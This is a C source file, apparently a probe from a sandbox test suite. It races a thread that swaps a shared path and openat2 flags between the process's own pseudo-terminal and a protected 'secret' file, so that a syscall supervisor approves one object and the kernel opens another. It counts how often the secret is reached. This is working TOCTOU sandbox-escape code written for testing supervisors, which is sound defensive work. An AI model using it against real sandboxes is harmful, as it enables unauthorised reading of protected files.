/* SPDX-License-Identifier: MIT */
/*
 * attack_ctty openat|openat2 SECRET: opening a terminal for reading and writing
 * can make it the controlling terminal, which only the opener itself can get.
 * A supervisor that therefore lets the target repeat the call has judged
 * memory that changes meanwhile: one thread lets the path (and the flags of
 * openat2) flip between a pseudo-terminal of its own and SECRET. Prints how
 * often the terminal came, how often something was refused, and how often it
 * was the secret.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

#define NR_OPENAT2 437
/* How long a path stays, in turns of a loop: below this. */
#define PAUSE_MAX 1024

static char path[PATH_MAX], terminal[PATH_MAX], secret[PATH_MAX];
static struct open_how how;
static struct stat secret_st;
static atomic_bool stop;

static void set(const char *value, unsigned long long flags)
{
	volatile unsigned long long *live = (void *)&how.flags;
	unsigned int pause;

	memcpy(path, value, sizeof(path));
	*live = flags;
	pause = (unsigned int)rand() % PAUSE_MAX;
	for (volatile unsigned int i = 0; i < pause; i++)
		continue;
}

static void *flip(void *unused)
{
	(void)unused;
	while (!atomic_load(&stop)) {
		set(secret, O_RDONLY);
		set(terminal, O_RDWR);
	}
	return NULL;
}

static long try_open(int use_openat2)
{
	if (use_openat2)
		return syscall(NR_OPENAT2, AT_FDCWD, path, &how, sizeof(how));
	return syscall(SYS_openat, AT_FDCWD, path, O_RDWR, 0);
}

/* A path that was torn in the middle may name yet another object. */
static int is_secret(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == secret_st.st_dev &&
	       st.st_ino == secret_st.st_ino;
}

static int race(int use_openat2)
{
	const time_t end = time(NULL) + probe_seconds();
	long granted = 0, refused = 0, reached = 0;
	pthread_t thread;

	/* Losing the controlling terminal again sends it. */
	signal(SIGHUP, SIG_IGN);
	if (setsid() < 0 || pthread_create(&thread, NULL, flip, NULL))
		return -errno;
	while (time(NULL) < end) {
		long fd = try_open(use_openat2);

		if (fd < 0) {
			refused++;
			continue;
		}
		if (isatty((int)fd))
			granted++;
		else if (is_secret((int)fd))
			reached++;
		ioctl((int)fd, TIOCNOTTY);
		close((int)fd);
	}
	atomic_store(&stop, 1);
	pthread_join(thread, NULL);
	printf("granted %ld\nrefused %ld\nsecret %ld\n", granted, refused,
	       reached);
	return 0;
}

int main(int argc, char **argv)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY);
	int status = 0;
	pid_t pid;

	if (argc != 3 || master < 0 || grantpt(master) || unlockpt(master))
		return 2;
	probe_copy(terminal, ptsname(master));
	probe_copy(secret, argv[2]);
	if (stat(secret, &secret_st))
		return 2;
	/* The leader of a process group cannot start a session. */
	pid = fork();
	if (pid == 0) {
		int error = race(strcmp(argv[1], "openat2") == 0);

		fflush(stdout);
		_exit(-error);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		return 2;
	return status != 0;
}
